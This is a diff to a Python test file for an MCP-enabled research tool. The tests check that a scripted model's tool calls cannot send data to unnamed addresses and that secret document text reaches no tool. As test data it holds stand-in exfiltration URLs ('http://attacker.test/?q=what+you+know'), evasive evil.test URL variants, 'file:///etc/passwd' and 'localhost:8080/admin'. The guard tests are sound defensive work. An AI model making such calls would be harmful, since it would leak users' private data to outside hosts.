@@ -5,7 +5,6 @@ import json
 import os
 import shutil
 import signal
-import subprocess
 import sys
 import threading
 import time
@@ -116,13 +115,15 @@ def test_d7_a_model_calls_tools_and_cites_what_they_answer(own_state: Path, monk
 
 
 def test_d7_broken_servers_cost_only_themselves_and_are_named(own_state: Path) -> None:
-    calls = own_state.parent / "calls"
+    calls, unfit = own_state.parent / "calls", own_state.parent / "unfit.py"
+    unfit.write_text(UNFIT)
     with served_http() as refusing:
         refusing.answer = (401, "text/plain", b"who are you")
         ran = research(
             own_state,
             {
                 "good": stdio(calls, tools=["search_stories"]),
+                "odd": {"command": sys.executable, "args": [str(unfit)]},
                 "silent": stdio(fault="silent", timeout_seconds=1),
                 "broken": stdio(fault="start"),
                 "absent": {"command": "no-such-program"},
@@ -130,6 +131,7 @@ def test_d7_broken_servers_cost_only_themselves_and_are_named(own_state: Path) -
                 "keyless": {"url": refusing.url, "headers": {"Authorization": "Bearer $NO_SUCH_VARIABLE"}},
                 "choosy": stdio(tools=["search_stories", "fly"]),
             },
+            workflow="quick",
         )
     assert_sound(ran.report, ran.folder)
     assert "3,000 rpm" in ran.report.report
@@ -141,6 +143,7 @@ def test_d7_broken_servers_cost_only_themselves_and_are_named(own_state: Path) -
         "'refusing' answered HTTP 401",
         "'keyless': it is not ready: set NO_SUCH_VARIABLE",
         "'choosy': it has no tool named fly",
+        "'odd': left out, because their schemas are not those of objects: words, nothing, None, ?",
     ):
         assert why in told, told
     assert "no module named engines" not in "".join(section.notes for section in ran.report.sections)
@@ -161,14 +164,6 @@ for line in sys.stdin:
         answer = {"jsonrpc": "2.0", "id": asked["id"], "result": answers.get(asked["method"], {})}
         print(json.dumps(answer), flush=True)
 """
-
-
-def test_d7_tools_that_are_not_described_as_the_protocol_wants_cost_only_themselves(own_state: Path) -> None:
-    own_state.parent.joinpath("unfit.py").write_text(UNFIT)
-    server = {"command": sys.executable, "args": [str(own_state.parent / "unfit.py")]}
-    ran = research(own_state, {"odd": server})
-    assert "3,000 rpm" in ran.report.report
-    assert "'odd': left out, because their schemas are not those of objects: words, nothing, None, ?" in _why(ran)
 
 
 BREAKING = {
@@ -197,15 +192,23 @@ def test_d7_a_server_that_breaks_in_a_run_is_a_gap_and_never_evidence(
     assert {source.origin for source in ran.report.sources.values()} >= {"documents"}
 
 
-def test_d7_a_tool_is_given_no_address_that_nobody_has_named(own_state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_d7_calls_that_cannot_be_made_are_told_and_no_tool_is_given_an_address_that_nobody_has_named(
+    own_state: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     calls = own_state.parent / "calls"
     away = "http://attacker.test/?q=what+you+know"
     script = ToolUser(
-        [Call("open_page", {"url": away}), Call("open_page", {"url": "attacker.test/secret"}), FIND],
+        [Call("open_page", {"url": away}), Call("open_page", {"url": "attacker.test/secret"})],
+        [Call("search_stories", "{not json"), Call("no_such_tool", {"a": 1}), Call("draw", {}), FIND],
         [Call("open_page", {"url": "https://alpha.test/engine"}), Call("draw", {"engine": f"like {away}"})],
     )
-    with served(monkeypatch, script):
+    with served(monkeypatch, script) as provider:
         ran = research(own_state, {"pocket": stdio(calls)}, **MODEL)
+        said = "\n".join(one.request["prompt"] for one in provider.calls)
+    assert "the arguments of search_stories were no JSON object" in said
+    assert "there is no tool named no_such_tool" in said
+    assert "The tool 'draw' of the MCP server 'pocket' failed" in said
+    assert_sound(ran.report, ran.folder)
     assert not [line for line in _calls(calls) if "attacker" in line]
     assert "open_page https://alpha.test/engine" in _calls(calls)
     assert f"Nobody has named the address '{away}'" in _why(ran)
@@ -218,9 +221,8 @@ _KNOWN = "http://known.test/page"
     "arguments",
     [
         *({"url": url} for url in (
-            "https:evil.test/?q=S", f"http:evil.test/?q=S#{_KNOWN}", f"http:/evil.test/#{_KNOWN}", f"//evil.test/#{_KNOWN}",
-            f"https:\\\\evil.test\\?q=S#{_KNOWN}", f"ht\ntp://evil.test/#{_KNOWN}", f"evil.test/?x={_KNOWN}", "file:///etc/passwd",
-            f"ftp://evil.test/#{_KNOWN}", "localhost:8080/admin", "evil%2etest/?q=S", "evil\u3002test/?q=S",
+            "https:evil.test/?q=S", f"//evil.test/#{_KNOWN}", f"https:\\\\evil.test\\?q=S#{_KNOWN}", f"ht\ntp://evil.test/#{_KNOWN}",
+            f"evil.test/?x={_KNOWN}", "file:///etc/passwd", "localhost:8080/admin", "evil%2etest/?q=S", "evil\u3002test/?q=S",
         )),
         {"pageUrl": "evil.test/?q=S"}, {"hostname": "secret.evil.test"}, {"options": {"url": "evil.test/?q=S"}},
         {"urls": [_KNOWN, "evil.test/?q=S"]}, {"input": "https:evil.test/?q=S"},
@@ -235,31 +237,21 @@ def test_d7_an_address_that_nobody_has_named_is_seen_in_every_form(arguments: di
         named.check(arguments)
 
 
-@pytest.mark.parametrize("joint", [" ", "\n"], ids=["blanks", "lines"])
 def test_d7_what_repeats_a_document_is_given_to_no_tool_whatever_its_name(
-    own_state: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, joint: str
+    own_state: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     calls, secret = tmp_path / "calls", "the Helios board has decided to sell the Alpha engine to nobody but Rolf"
     (tmp_path / "plans").mkdir()
     (tmp_path / "plans" / "plan.md").write_text(f"# Alpha engine\n\nIn May {secret}.\n")
-    told = [Call(name, {"text": secret.replace(" ", joint)}) for name in ("documents", "get_story")]
+    told = [
+        Call(name, {"text": secret.replace(" ", joint)}) for name, joint in (("documents", " "), ("get_story", "\n"))
+    ]
     script = ToolUser([Call("search", {"queries": ["Alpha engine"], "source": "documents"})], told)
     with served(monkeypatch, script):
         ran = research(own_state, {"pocket": stdio(calls)}, docs=[tmp_path / "plans"], **MODEL)
     assert "Helios" not in calls.read_text()
     held = {query.place for query in ran.report.queries if query.held_back == "words"}
     assert held == {"tool:documents", "tool:get_story"}
-
-
-def test_d7_calls_that_cannot_be_made_are_told_to_the_model(own_state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    script = ToolUser([Call("search_stories", "{not json"), Call("no_such_tool", {"a": 1}), Call("draw", {})], [FIND])
-    with served(monkeypatch, script) as provider:
-        ran = research(own_state, {"pocket": stdio()}, **MODEL)
-        said = "\n".join(one.request["prompt"] for one in provider.calls)
-    assert "the arguments of search_stories were no JSON object" in said
-    assert "there is no tool named no_such_tool" in said
-    assert "The tool 'draw' of the MCP server 'pocket' failed" in said
-    assert_sound(ran.report, ran.folder)
 
 
 def test_d7_secrets_reach_the_server_and_never_the_disk(own_state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -287,6 +279,7 @@ def test_d7_a_run_keeps_the_names_of_servers_and_starts_those_of_today(
     settings = Settings(
         allow_clarification=False,
         model_provider="finder",
+        workflow="quick",
         mcp_servers={"pocket": McpServer.model_validate(stdio()), "gone": McpServer.model_validate(stdio())},
     )
     folder = create_run(QUESTION, settings, home=own_state)
@@ -377,16 +370,6 @@ def test_d7_without_the_sdk_the_error_says_what_to_install(own_state: Path, monk
     monkeypatch.setitem(sys.modules, "mcp", None)
     with pytest.raises(ConfigError, match=r"pip install 'deep-research\[mcp\]'"):
         research(own_state, {"pocket": stdio()})
-
-
-def test_d7_a_run_without_servers_does_not_load_the_sdk(own_state: Path) -> None:
-    script = (
-        "import sys, asyncio\nfrom deep_research import research\n"
-        f"research('What is speculative decoding?', model_provider='finder', home={str(own_state)!r}, workflow='quick')\n"
-        "print('mcp' in sys.modules)"
-    )
-    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=90, check=True)
-    assert done.stdout.strip() == "False"
 
 
 def test_e1_the_command_lists_servers_ready_or_not_and_their_tools(own_state: Path) -> None:
